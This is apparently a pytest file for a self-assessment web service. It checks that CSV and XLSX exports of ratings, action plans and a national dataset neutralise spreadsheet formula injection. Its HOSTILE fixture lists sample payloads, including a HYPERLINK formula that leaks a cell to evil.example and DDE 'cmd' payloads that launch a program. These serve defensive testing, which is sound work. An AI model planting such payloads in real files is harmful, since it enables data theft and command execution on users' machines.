"""Formula injection: text people typed (evidence, measures to improve, actions, owners, names,
partnership names) that a spreadsheet would run as a formula is neutralised in every CSV and XLSX
the service hands out: the assessment's ratings and action plan, and the national dataset."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from selfassess.services.agreement import add_action, participant_for, save_agreed_rating
from tests.factories import make_assessment, make_partnership, make_user, rate
from tests.test_national_pages import _analyst, _open_collection

KP = "iom-key-principles"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    # Not read-only and not data_only: a formula cell would show as data_type "f".
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells at {formulas}"
    return [c.value for c in cells]


def assert_neutralised(cells: list, name: str) -> None:
    text = [c for c in cells if isinstance(c, str)]
    live = [c for c in text if c.startswith(FORMULA_STARTS)]
    assert not live, f"{name}: cells a spreadsheet would run: {live}"
    for value in {*HOSTILE, *(v.strip() for v in HOSTILE)}:
        if value in text or "'" + value in text:
            assert "'" + value in text, f"{name}: {value!r} not shown as plain text"


@pytest.fixture
def hostile_assessment(app, client):
    p = make_partnership(name=HOSTILE[0], code="E09INJ")
    lead = make_user(p, "lead", name=HOSTILE[3], agency="local_authority")
    member = make_user(p, "member", name=HOSTILE[2], agency="police")
    assessment = make_assessment(p, (KP,), status="open", title=HOSTILE[1])
    lead_part = participant_for(assessment, lead, create=True)
    member_part = participant_for(assessment, member, create=True)
    rate(lead_part, "1.1", "red", evidence=HOSTILE[0], improvement=HOSTILE[1])
    rate(member_part, "1.1", "amber", evidence=HOSTILE[2], improvement=HOSTILE[3])
    rate(lead_part, "1.2", "green", evidence=HOSTILE[4], improvement=HOSTILE[5])
    save_agreed_rating(assessment, KP, "1.1", "red", HOSTILE[0], None, lead)
    for i, value in enumerate(HOSTILE):
        add_action(assessment, KP, value, HOSTILE[-1 - i], lead, item_id="1.1")
    with client.session_transaction() as session:
        session["_user_id"] = str(lead.id)
        session["_fresh"] = True
    return assessment


@pytest.mark.parametrize("name", ["ratings.csv", "ratings.xlsx", "actions.csv", "actions.xlsx"])
def test_assessment_exports_neutralise_formulas(client, hostile_assessment, name):
    response = client.get(f"/assessments/{hostile_assessment.id}/export/{name}")
    assert response.status_code == 200
    cells = csv_cells(response.data) if name.endswith(".csv") else xlsx_cells(response.data)
    assert_neutralised(cells, name)
    # The hostile text is there, as text: nothing was dropped to make the file safe.
    text = " ".join(str(c) for c in cells)
    # Actions are stored trimmed, so their tab and carriage return go; the formula stays.
    expected = HOSTILE[:4] if name.startswith("ratings") else [v.strip() for v in HOSTILE]
    for value in expected:
        assert value in text, f"{name} lost {value!r}"


def test_the_national_dataset_neutralises_formulas(app, client):
    _analyst(client)
    _open_collection([], slug="inject")
    codes = []
    for i, name in enumerate(HOSTILE[:4]):
        codes.append(make_partnership(name=name, code=f"E0{i}INJ", region="north_west").code)
    lines = ["partnership_code,q1,1.1"] + [f"{code},yes,green" for code in codes]
    response = client.post(
        "/national/collections/inject/import",
        data={"returns_file": (io.BytesIO("\n".join(lines).encode()), "returns.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.data
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(f"/national/collections/inject/dataset.{fmt}")
        assert response.status_code == 200
        cells = read(response.data)
        assert_neutralised(cells, f"dataset.{fmt}")
        for value in HOSTILE[:4]:
            assert "'" + value in cells
